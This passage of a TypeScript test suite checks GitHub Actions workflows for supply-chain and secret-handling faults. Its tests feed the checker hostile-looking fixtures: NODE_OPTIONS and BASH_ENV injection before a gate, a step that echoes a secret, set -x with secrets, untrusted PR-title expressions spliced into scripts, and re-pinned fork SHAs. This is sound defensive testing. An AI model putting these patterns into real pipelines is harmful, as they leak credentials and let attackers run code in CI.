    expect(gates((wf) => Object.assign(job(wf, "gates"), { container: "node:22" }))).toMatch(/gates: runs the gate script, so it must not set container:/);
  });

  it("R4: checkout or setup-node before the gate at any SHA but the listed pins (one that exists only in a fork resolves too)", () => {
    const forkOnly = "0123456789abcdef0123456789abcdef01234567";
    const repinned = (wf: Workflow, id: string, i: number) => {
      const s = stepsOf(job(wf, id))[i];
      s.uses = `${String(s.uses).split("@")[0]}@${forkOnly}`;
    };
    // The common pin rule refuses it (KNOWN_ACTION_PINS)...
    const text = byName("deploy.yml").text.replace(/actions\/checkout@[0-9a-f]{40}/g, `actions/checkout@${forkOnly}`);
    expect(checkPinnedActions(text, "deploy.yml").join("\n")).toMatch(new RegExp(`actions/checkout@${forkOnly} is not a known pin`));
    // ...and, on its own, so does the gate rule, naming the pins it accepts before the gate.
    expect(gates((wf) => repinned(wf, "apply-prod", 0))).toMatch(
      /apply-prod: step 1 \(.*\) runs before the gate script; .*actions\/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4\.2\.2 .* or actions\/setup-node@49933ea5288caeca8642d1e84afbd3f7d6820020 # v4\.4\.0/,
    );
    expect(gates((wf) => repinned(wf, "gates", 1))).toMatch(/gates: step 2 \(.*\) runs before the gate script/);
    // With id-token: write (rotate), a re-pinned setup-node before the re-check also counts as a step that may mint the token.
    expect(gates((wf) => repinned(wf, "rotate", 1), byName("rotate-secrets.yml").doc)).toMatch(/rotate: must check again that "prod" is gated.*with id-token: write/);
  });

  it("D: env on the checkout or setup-node step before the gate (NODE_OPTIONS runs repository code in the action)", () => {
    expect(gates((wf) => (stepsOf(job(wf, "apply-prod"))[1].env = { NODE_OPTIONS: "--require ./.github/x.js" }))).toMatch(/apply-prod: step 2 \(.*\) runs before the gate script; only checkout of this commit .* with no env/);
    expect(gates((wf) => (stepsOf(job(wf, "gates"))[0].env = { BASH_ENV: "./x.sh" }))).toMatch(/gates: step 1 \(.*\) runs before the gate script/);
  });
});

describe("deploy.yml runs preflight before every apply (issue #13)", () => {
  it.each(["apply-dev", "apply-staging", "apply-prod"])("%s: preflight after the credentials, before terraform apply", (id) => {
    const steps = stepsOf(job(byName("deploy.yml").doc, id));
    const preflight = steps.findIndex((s) => /^npm run --silent preflight -- --env "\$TF_ENV"$/.test((s.run ?? "").trim()));
    const apply = steps.findIndex((s) => /terraform\b.*\sapply\s/.test(s.run ?? ""));
    const credentials = steps.findIndex((s) => (s.uses ?? "").includes("configure-aws-credentials"));
    expect([preflight > credentials, preflight >= 0 && preflight < apply]).toEqual([true, true]);
    expect(steps[preflight].if).toBeUndefined();
    expect(steps[preflight].env?.GENESYSCLOUD_OAUTHCLIENT_SECRET).toBe("${{ secrets.GENESYSCLOUD_OAUTHCLIENT_SECRET }}");
  });
});

describe("plan environments hold nothing that can change anything (attacker review)", () => {
  it.each(["ci.yml", "deploy.yml", "drift.yml", "rotate-secrets.yml"])("%s: plan jobs read only the plan client, and no plan locks", (file) => {
    expect(checkPlanEnvironmentsHoldNothingPowerful(byName(file).doc)).toEqual([]);
  });

  it("fails on a plan job reading the Terraform client's secret, and on a locking plan", () => {
    const wf = clone(byName("deploy.yml").doc);
    const planDev = job(wf, "plan-dev");
    const s = stepsOf(planDev).find((st) => /terraform\b.*\splan\s/.test(st.run ?? "")) as Step;
    s.run = (s.run ?? "").replace("-lock=false", "-lock-timeout=10m");
    s.env = { ...s.env, GENESYSCLOUD_OAUTHCLIENT_SECRET: "${{ secrets.GENESYSCLOUD_OAUTHCLIENT_SECRET }}" };
    const out = checkPlanEnvironmentsHoldNothingPowerful(wf).join("\n");
    expect(out).toMatch(/plan-dev: runs in dev-plan and reads secrets\.GENESYSCLOUD_OAUTHCLIENT_/);
    expect(out).toMatch(/plan-dev: ".*-lock-timeout=10m.*" takes the state lock/);
  });
});

describe("common rules fail on broken copies", () => {
  const deploy = byName("deploy.yml");

  it("unpinned or uncommented actions", () => {
    expect(checkPinnedActions(deploy.text.replace(/actions\/checkout@[0-9a-f]{40}/, "actions/checkout@v4"), "deploy.yml").join("\n")).toMatch(/actions\/checkout@v4 is not pinned/);
    expect(checkPinnedActions("      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n", "x.yml").join("\n")).toMatch(/no "# vX.Y.Z" version comment/);
    expect(checkPinnedActions("      - uses: ./.github/actions/setup-toolchain\n", "x.yml")).toEqual([]);
    expect(checkPinnedActions("      - uses: docker://alpine:3\n", "x.yml").join("\n")).toMatch(/not pinned by digest/);
  });

  it("a pin of the right form that is not a known commit of that release (re-review R4: a fork's SHA resolves too)", () => {
    const fork = deploy.text.replace(/aws-actions\/configure-aws-credentials@[0-9a-f]{40}/, `aws-actions/configure-aws-credentials@${"f".repeat(40)}`);
    expect(checkPinnedActions(fork, "deploy.yml").join("\n")).toMatch(/configure-aws-credentials@f{40} is not a known pin: .* KNOWN_ACTION_PINS/);
    const relabelled = deploy.text.replace(/(actions\/upload-artifact@[0-9a-f]{40}) # v4\.6\.2/, "$1 # v4.7.0");
    expect(checkPinnedActions(relabelled, "deploy.yml").join("\n")).toMatch(/upload-artifact@[0-9a-f]{40} is v4\.6\.2, but its comment says "# v4\.7\.0"/);
  });

  it("id-token or other write permissions where unused, or wide top-level permissions", () => {
    const wf = clone(deploy.doc);
    job(wf, "synth").permissions = { contents: "read", "id-token": "write" };
    job(wf, "plan-dev").permissions = { contents: "read", "id-token": "write", "pull-requests": "write" };
    wf.permissions = { contents: "write" };
    const out = checkPermissions(wf);
    expect(out).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^top-level permissions/),
        "synth: has id-token: write but does not use it",
        "plan-dev: has pull-requests: write but does not use it",
      ]),
    );
    const missing = clone(deploy.doc);
    job(missing, "apply-dev").permissions = { contents: "read" };
    expect(checkPermissions(missing)).toContain("apply-dev: runs configure-aws-credentials without id-token: write");
    const implicit = clone(deploy.doc);
    delete job(implicit, "synth").permissions;
    expect(checkPermissions(implicit)).toContain("synth: must declare its permissions explicitly as a map");
  });

  it("issues: write is accepted only where a script opens issues", () => {
    const drift = clone(byName("drift.yml").doc);
    expect(checkPermissions(drift)).toEqual([]);
    const script = stepsOf(job(drift, "report")).find((s) => s.with?.script);
    if (!script?.with) throw new Error("no script");
    script.with.script = "console.log('nothing')";
    expect(checkPermissions(drift)).toContain("report: has issues: write but does not use it");
  });

  it("Terraform from anywhere but the toolchain action", () => {
    const wf = clone(deploy.doc);
    stepsOf(job(wf, "plan-dev")).splice(1, 1, { uses: "hashicorp/setup-terraform@b9cd54a3c349d3f38e8881555d616ced269862dd", with: { terraform_version: "1.9.0" } });
    const text = deploy.text + "\n# hashicorp/setup-terraform with terraform_version: 1.9.0\n";
    const out = checkTerraformSource(wf, text).join("\n");
    expect(out).toMatch(/directly/);
    expect(out).toMatch(/lives only in \.terraform-version/);
    expect(out).toMatch(/plan-dev: runs terraform without/);
    const noAutomation = clone(deploy.doc);
    delete noAutomation.env?.TF_IN_AUTOMATION;
    expect(checkTerraformSource(noAutomation, deploy.text)).toContain("runs terraform but the workflow env does not set TF_IN_AUTOMATION=1");
    expect(checkToolchainAction({ runs: { steps: [{ uses: "hashicorp/setup-terraform@x", with: { terraform_version: "1.12.2", terraform_wrapper: true } }] } })).toHaveLength(3);
  });

  it("roles assumed outside the environments they trust", () => {
    const wf = clone(deploy.doc);
    job(wf, "plan-prod").environment = "prod";
    job(wf, "apply-dev").environment = "dev-plan";
    delete job(wf, "apply-staging").environment;
    const configure = stepsOf(job(wf, "plan-dev")).find((s) => (s.uses ?? "").startsWith("aws-actions/"));
    if (!configure?.with) throw new Error("no configure step");
    configure.with["role-to-assume"] = "arn:aws:iam::111111111111:role/admin";
    expect(checkRoleEnvironments(wf)).toEqual([
      "plan-dev: assumes arn:aws:iam::111111111111:role/admin, which is none of the plan, apply or rotation roles",
      "apply-dev: assumes ${{ vars.AWS_APPLY_ROLE_ARN }} in dev-plan; it trusts only the environment <env> itself",
      "apply-staging: assumes ${{ vars.AWS_APPLY_ROLE_ARN }} outside any GitHub environment",
      "plan-prod: assumes the plan role in environment prod; it trusts only <env>-plan",
    ]);
  });

  it("expressions spliced into scripts", () => {
    const wf = clone(deploy.doc);
    const guard = stepsOf(job(wf, "plan-prod")).find(isGuardStep);
    if (!guard) throw new Error("no guard");
    guard.run = `${guard.run} --title "\${{ github.event.head_commit.message }}"`;
    const comment = clone(byName("ci.yml").doc);
    const script = stepsOf(job(comment, "comment")).find((s) => s.with?.script);
    if (!script?.with) throw new Error("no script");
    script.with.script = `const title = "\${{ github.event.pull_request.title }}";`;
    expect(checkNoScriptExpressions(wf)).toEqual([expect.stringMatching(/^plan-prod step \d+ \(Plan guard\): run contains a \$\{\{ \}\} expression/)]);
    expect(checkNoScriptExpressions(comment)).toEqual([expect.stringMatching(/^comment step \d+ \(.*\): script contains/)]);
  });

  it("secrets in run scripts or printed from env", () => {
    const wf = clone(deploy.doc);
    stepsOf(job(wf, "apply-dev")).push({ name: "leak", run: 'echo "${{ secrets.GENESYSCLOUD_OAUTHCLIENT_SECRET }}"' });
    const apply = stepsOf(job(wf, "apply-prod")).find(isApplyStep);
    if (!apply) throw new Error("no apply");
    apply.run = `set -x\n${apply.run}\necho "secret is $GENESYSCLOUD_OAUTHCLIENT_SECRET"`;
    const out = checkSecretsNotEchoed(wf).join("\n");
    expect(out).toMatch(/apply-dev step \d+ \(leak\): run script references secrets\.\* directly/);
    expect(out).toMatch(/apply-prod .*set -x with secrets/);
    expect(out).toMatch(/apply-prod .*may print secret variable GENESYSCLOUD_OAUTHCLIENT_SECRET/);
  });
});

describe("docs/ci-cd.md", () => {
  it("names every variable and secret the workflows read (so the setup table stays true)", () => {
    const doc = fs.readFileSync(path.join(ROOT, "docs", "ci-cd.md"), "utf8");
    const used = new Set(loaded.flatMap((l) => [...l.text.matchAll(/\b(?:vars|secrets)\.([A-Z][A-Z0-9_]*)/g)].map((m) => m[1])));
    expect([...used].sort()).toEqual(expect.arrayContaining(["AWS_APPLY_ROLE_ARN", "AWS_PLAN_ROLE_ARN", "AWS_ROTATION_ROLE_ARN", "ENVIRONMENTS_READ_TOKEN"]));
    expect([...used].filter((name) => !doc.includes(`\`${name}\``))).toEqual([]);
  });
});

describe(".github/CODEOWNERS", () => {
  const rules = fs
    .readFileSync(path.join(ROOT, ".github", "CODEOWNERS"), "utf8")
    .split("\n")
    .map((l) => l.trim())
    .filter((l) => l !== "" && !l.startsWith("#"))
    .map((l) => l.split(/\s+/));

  it("gives the pipelines, environments, stacks and scripts an owner (a team or user handle on every line)", () => {
    const owned = rules.map(([pattern]) => pattern);
    expect(owned).toEqual(expect.arrayContaining(["/.github/", "/environments/", "/stacks/", "/scripts/", "/modules/"]));
    for (const [pattern, ...owners] of rules) {
      expect(`${pattern}: ${owners.length} owner(s)`).not.toBe(`${pattern}: 0 owner(s)`);
      for (const owner of owners) expect(owner).toMatch(/^@[\w-]+(\/[\w-]+)?$/);
    }
  });
});

describe("dependabot.yml", () => {
  const config = parse(fs.readFileSync(path.join(ROOT, ".github", "dependabot.yml"), "utf8")) as {
    version: number;
    updates: Array<{ "package-ecosystem": string; directory?: string; directories?: string[]; schedule: { interval: string } }>;
  };
  const dirsOf = (ecosystem: string): string[] =>
    config.updates.filter((u) => u["package-ecosystem"] === ecosystem).flatMap((u) => u.directories ?? (u.directory ? [u.directory] : []));

  it("updates the pins of every workflow and local action, and the npm dependencies, weekly", () => {
    expect(config.version).toBe(2);
    const actionDirs = fs
      .readdirSync(path.join(ROOT, ".github", "actions"))
      .filter((d) => /uses: \S+@[0-9a-f]{40}/.test(fs.readFileSync(path.join(ROOT, ".github", "actions", d, "action.yml"), "utf8")))
      .map((d) => `/.github/actions/${d}`);
    expect(actionDirs.length).toBeGreaterThan(0);
    expect(dirsOf("github-actions").sort()).toEqual(["/", ...actionDirs].sort());
    expect(dirsOf("npm")).toEqual(["/"]);
    for (const u of config.updates) expect(u.schedule.interval).toBe("weekly");
  });
});
